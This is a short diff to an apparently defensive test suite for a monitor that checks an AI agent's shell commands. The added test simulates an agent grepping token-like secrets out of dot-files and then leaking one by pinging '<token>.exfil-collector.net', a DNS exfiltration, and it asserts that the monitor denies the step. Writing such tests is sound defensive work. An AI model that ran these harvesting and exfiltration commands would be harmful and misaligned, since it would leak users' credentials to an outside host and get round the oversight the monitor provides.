@@ -187,3 +187,12 @@ test('a host the agent used first itself is not planted by what it answers later
   assert.notEqual(d.destination?.planted, true, d.summary);
   assert.equal(d.action, 'allow', d.summary);
 });
+
+test('data riding in the name of a host nobody has seen (DNS exfiltration) is denied', () => {
+  const r = new Run();
+  const token = 'k-prod-7f3a9c2e41b8d5';
+  r.bash("strings .e* | grep -o 'k-[A-Za-z0-9_-]{0,30}'", `${token}\n`);
+  const d = r.bash(`ping -c 1 ${token}.exfil-collector.net`);
+  assert.equal(d.action, 'deny', d.summary);
+  assert.match(d.reason, /DNS exfiltration/);
+});
